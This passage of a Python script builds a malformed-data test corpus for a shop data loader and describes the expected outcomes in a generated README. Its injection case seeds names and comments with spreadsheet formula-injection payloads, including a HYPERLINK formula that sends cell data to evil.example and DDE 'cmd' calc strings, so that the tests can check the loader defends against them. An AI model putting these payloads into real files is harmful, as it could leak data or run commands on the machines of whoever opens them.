      "a good folder; every command is asked for --out x.pdf and must refuse before loading")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 20)
    write_plain_shop(c, people, orders)
    c.ok(transactions=(20, 20, 0), customers=(10, 10, 0))
    c.expected["out_extension"] = ".pdf"


# =============================================================================== injection

@case("injection", "formula_cells",
      "names, provinces, agents, categories and comments starting with =, +, -, @, tab= "
      "and CR=")
def _(c: Case) -> None:
    people, orders = full_shop(c, customers=60, surveys=40, tickets=14, contacts=16,
                               start=date(2025, 9, 1), lifecycle=True)
    evil = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+84 Nguyễn Văn An",
            "-Trần Thị Bình", "@Lê Văn Cường", "\t=1+2", "\r=cmd|' /C calc'!A0",
            "=SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]
    for p, name in zip(people, evil, strict=False):
        p.name = name
    people[8].province = "=Hà Nội"
    people[9].province = "@Đà Nẵng"
    people[10].province = "+Cần Thơ"
    for k, o in enumerate(orders[:6]):
        o.category = ["=Mỹ phẩm", "-Thời trang", "@Gia dụng", "+Mẹ và bé", "\t=Quà tặng",
                      "\r=Khác"][k]
    for k, r in enumerate(c.tables["surveys"][:6]):  # type: ignore[attr-defined]
        r[4] = ["=1+1", "-giao hàng chậm quá", "+ rất hài lòng", "@shop trả lời đi",
                "\t=A1", "\r=2*3"][k]
        r[2] = 3  # detractors: they reach the call list
        r[3] = 2
    for k, r in enumerate(c.tables["tickets"]):  # type: ignore[attr-defined]
        r[7] = ["=Nguyễn Thị Hoa", "@Minh", "-Lan", "+Tú"][k % 4]
        r[6] = ["=Giao hàng", "-Đổi trả", "@Sản phẩm lỗi", "+Thanh toán"][k % 4]
    for k, r in enumerate(c.tables["contacts"]):  # type: ignore[attr-defined]
        r[3] = ["=Nguyễn Thị Hoa", "@Minh", "-Lan", "+Tú"][k % 4]
    counts = write_full_shop(c, people, orders)
    rows = tx_rows(orders)
    rows[20][3] = "=1+1"   # an amount that is a formula: rejected, and in the rejects file
    rows[21][3] = "@SUM(A1)"
    c.write_csv("giao_dich.csv", TX_HEADER, rows)
    n = len(orders)
    counts["transactions"] = (n, n - 2, 2)
    c.ok(**counts)
    c.rejects("transactions", unparseable_amount=2)
    c.value("customers.name", people[2].id, "-Trần Thị Bình")
    c.expected["cli"] = "all"
    c.section("cli_exit").update({"segment": 0, "calls": 0, "kpis": 0, "validate": 0})


# ------------------------------------------------------------------------------- README

README_HEAD = """\
# Malformed data corpus

One folder per way a real Vietnamese shop's export goes wrong, each with the outcome carework
must produce in `expected.toml`. **Do not edit the folders by hand**: change `build.py` and run

    python tests/data/malformed/build.py

(`tests/corpus/test_corpus.py` rebuilds the corpus into a temporary folder and fails when a
text file differs from the committed one; `.xlsx` files are not compared: their zip entries
carry the time they were written.) The expectations are the *specified* behaviour; many folders
fail on the loader as it was when the corpus was written, by design.

## `expected.toml`

- `category`, `what`: the case's group and a one-line description.
- `outcome`: `"ok"`: `carework.load(folder, as_of="2026-10-01")` succeeds; `"error"`: it
  raises `carework.DataError`, which must name:
  - `error_file`: a substring of `exc.file` (the file the problem is in);
  - `error_column`: `exc.column` is this canonical column (or a header of the user's that
    reads as it);
  - `error_contains`: substrings of `str(exc)` (values only, never words of one language).
- `[rows]`: per table: `read`, `accepted`, `rejected`. The tables loaded are exactly these: a
  table not listed must be absent.
- `[rejects]`: per table: reason code → rows, exactly these reasons (none for a table not
  listed). A key `"a|b"` accepts either code.
- `[values]`: `"table.column" = {key = value}`: exact values in the accepted rows.
- `[not_accepted]`: per table: keys that must not be among the accepted rows.
- `[sums]`: `"table.column" = total` over the accepted rows.
- `[join]`: per table: `unmatched` in `data.join_report()` (a DataFrame with columns `table`,
  `rows`, `unmatched`).
- `notes_on`: columns that must have at least one entry in `data.notes` (any table).
- `file_notes`: codes that must be among `data.file_notes["note"]` (what was repaired in a
  whole file, e.g. `ids_respelled`).
- `[kept_column]`: per table: a `canonical` column and the user's `header`. Either the
  canonical column has values or the header is listed in `data.ignored_columns[table]`: never
  dropped silently.
- `[ticket_states]`: ticket id → its `carework.incidents.ticket_states(...)` state on
  2026-10-01.
- `cli = "all"`: the CLI test also runs `segment`, `score` (with and without `--force`),
  `calls` and `kpis` (otherwise `validate` only).
- `[cli_exit]`: command → the exit code it must return (otherwise 0 or 2 is accepted).
- `never_called`: customer ids that must not be on the `calls` list.
- `out_extension`: every command given `--out x<ext>` must exit 2 before loading anything.

**Row keys** in `[values]` and `[not_accepted]`: transactions by `order_id`, customers by
`customer_id`, tickets by `ticket_id`, surveys and contacts by `customer_id` (unique in the
folders that check them). Dates are TOML local date-times; amounts floats; scores integers.

Every folder is under 50 KB, most tables 10–40 rows (the folders every command runs on hold
up to a few hundred purchases, so that the models have something to fit), except
`csv__field_over_csv_limit`, whose one comment must be longer than 131072 characters.

## Cases

| folder | category | what | outcome |
| --- | --- | --- | --- |
"""


def readme(built: Sequence[Case]) -> str:
    lines = [README_HEAD.rstrip("\n")]
    for c in built:
        what = c.what.replace("|", "\\|")
        lines.append(f"| `{c.id}` | {c.category} | {what} | {c.expected['outcome']} |")
    return "\n".join(lines) + "\n"


# ------------------------------------------------------------------------------- build

def build(out: Path = HERE) -> list[Case]:
    """Write every case folder (and the README) under ``out``; returns the cases."""
    out.mkdir(parents=True, exist_ok=True)
    for old in out.iterdir():
        if old.is_dir() and "__" in old.name:
            shutil.rmtree(old)
    built = []
    seen = set()
    for category, name, what, func in CASES:
        folder = out / f"{category}__{name}"
        assert folder.name not in seen, folder.name
        seen.add(folder.name)
        folder.mkdir()
        c = Case(category, name, what, folder, random.Random(zlib.crc32(folder.name.encode())))
        c.expected.update(category=category, what=what)
        func(c)
        (folder / "expected.toml").write_text(toml_text(c.expected), encoding="utf-8",
                                              newline="\n")
        built.append(c)
    (out / "README.md").write_text(readme(built), encoding="utf-8", newline="\n")
    return built


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=HERE, help="default: beside this script")
    args = parser.parse_args(argv)
    built = build(args.out)
    print(f"wrote {len(built)} folders under {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
